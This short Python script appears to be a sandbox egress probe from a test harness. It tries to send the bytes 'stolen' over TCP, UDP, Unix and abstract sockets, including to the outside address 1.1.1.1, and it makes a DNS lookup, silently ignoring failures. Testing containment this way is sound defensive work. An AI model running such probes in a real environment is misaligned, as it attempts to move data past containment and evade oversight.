"""Sends bytes out: TCP, UDP, a Unix socket, a name lookup."""

import socket

for family, kind, address in (
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PORT)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", PORT)),
    (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 80)),
    (socket.AF_UNIX, socket.SOCK_STREAM, "CANARY/socket"),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\0hostile-PORT"),
):
    try:
        with socket.socket(family, kind) as out:
            out.settimeout(1)
            out.connect(address)
            out.send(b"stolen")
    except OSError:
        continue
try:
    socket.gethostbyname("example.com")
except OSError:
    pass
